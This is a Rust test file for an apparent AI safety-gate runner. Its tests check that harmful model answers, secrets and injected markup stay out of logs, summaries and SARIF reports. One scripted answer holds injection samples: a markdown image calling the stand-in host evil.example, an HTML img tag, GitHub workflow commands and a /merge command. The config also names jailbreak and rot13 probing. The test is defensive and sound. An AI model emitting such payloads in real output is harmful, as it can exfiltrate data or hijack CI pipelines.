//! What leaves the runner holds no attack and no answer to one.

use std::path::Path;

use serde_json::Value;

use crate::model::{canaries, policy, run, said, scripted};
use crate::support::{code, safety_gate, write};

const SAFETY: &str = "  suites: [probes.yaml]\n  strategies: [plain, rot13]\n  prompts_per_hazard: 100000\n  rules: {max_over_refusal_rate: null, max_harmful_rate: 0.2}\n";

/// Everything that a run writes but for the samples and their journal.
fn public(folder: &Path) -> Vec<(String, String)> {
    let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let public = entries.filter(|path| path.is_file() && path.extension().is_none_or(|end| end != "jsonl"));
    public
        .map(|path| (path.display().to_string(), String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned()))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn no_harmful_answer_secret_or_mention_leaves_the_runner() {
    // It leaks what it must not, curses, calls somebody and writes commands into the log.
    let answer = "zqharm the word is zebra00001 zebra00002 @octocat ::error::zqharm ##[error]zqharm /merge <img src=x> ![zqharm](http://evil.example/zqharm) s3cr3t-token-value";
    let stub = scripted(move |_| answer.to_owned()).await;
    let folder = tempfile::tempdir().unwrap();
    canaries(folder.path(), 60, "  severity: critical\n");
    policy(folder.path(), &stub.base, SAFETY);
    write(folder.path(), "event.json", "{}");
    for github in [false, true] {
        let mut command = safety_gate(folder.path());
        command
            .args(["--out", "out", "--early-stop", "off"])
            .env("API_TOKEN", "s3cr3t-token-value")
            .env("RUST_LOG", "trace");
        if github {
            command
                .env("GITHUB_ACTIONS", "true")
                .env("GITHUB_EVENT_PATH", folder.path().join("event.json"))
                .env("GITHUB_WORKSPACE", folder.path())
                .env("GITHUB_STEP_SUMMARY", folder.path().join("out/summary.md"))
                .env("GITHUB_OUTPUT", folder.path().join("out/outputs.txt"));
        }
        let output = command.output().unwrap();
        assert_eq!(code(&output), 1, "{}", said(&output));
        let mut surfaces = public(&folder.path().join("out"));
        assert!(surfaces.len() >= 7, "{surfaces:?}");
        // The runner is told the secret to mask it.
        let log = said(&output);
        let log = log.lines().filter(|line| !line.starts_with("::add-mask::")).collect::<Vec<_>>().join("\n");
        surfaces.push(("the log".to_owned(), log));
        for (name, text) in &surfaces {
            for word in ["zqharm", "octocat", "evil.example", "s3cr3t", "zebra", "Never say it", "/merge"] {
                assert!(!text.contains(word), "{name} holds {word}:\n{text}");
            }
        }
    }
    let samples = std::fs::read_to_string(folder.path().join("out/samples.jsonl")).unwrap();
    assert!(samples.contains("zqharm"), "the artifact holds the answers");
    assert!(!samples.contains("s3cr3t"), "and no secret");
}

#[tokio::test(flavor = "multi_thread")]
async fn answers_are_kept_nowhere_where_only_their_digests_are_wanted() {
    let stub = scripted(|asked| format!("zqharm {asked}")).await;
    let folder = tempfile::tempdir().unwrap();
    canaries(folder.path(), 30, "");
    policy(folder.path(), &stub.base, SAFETY);
    let output = run(folder.path(), &["--early-stop", "off", "--completions", "digest"]);
    assert_eq!(code(&output), 1, "{}", said(&output));
    let mut seen = 0;
    for entry in std::fs::read_dir(folder.path().join("out")).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            seen += 1;
            let text = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned();
            assert!(!text.contains("zqharm"), "{}", path.display());
        }
    }
    assert!(seen > 7);
    let samples = std::fs::read_to_string(folder.path().join("out/samples.jsonl")).unwrap();
    let sample: Value = serde_json::from_str(samples.lines().next().unwrap()).unwrap();
    assert!(sample["answer_digest"].as_str().unwrap().starts_with("sha256:"), "{sample:#}");
}

#[tokio::test(flavor = "multi_thread")]
async fn sarif_has_a_rule_for_each_hazard_and_points_at_the_suite() {
    let stub = scripted(str::to_owned).await;
    let folder = tempfile::tempdir().unwrap();
    canaries(folder.path(), 30, "");
    policy(folder.path(), &stub.base, &SAFETY.replace("[probes.yaml]", "[probes.yaml, jailbreak]"));
    run(folder.path(), &["--early-stop", "off", "--prompts", "30"]);
    let sarif: Value = serde_json::from_slice(&std::fs::read(folder.path().join("out/report.sarif")).unwrap()).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let finding =
        results.iter().find(|result| result["ruleId"].as_str().unwrap().starts_with("safety/canary_leak")).unwrap();
    let place = &finding["locations"][0]["physicalLocation"];
    assert_eq!(place["artifactLocation"]["uri"], "probes.yaml", "{finding:#}");
    assert!(place["region"]["startLine"].as_u64().unwrap() > 1, "{finding:#}");
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap();
    assert!(rules.iter().any(|rule| rule["id"] == "safety/canary_leak"), "{rules:#?}");
}
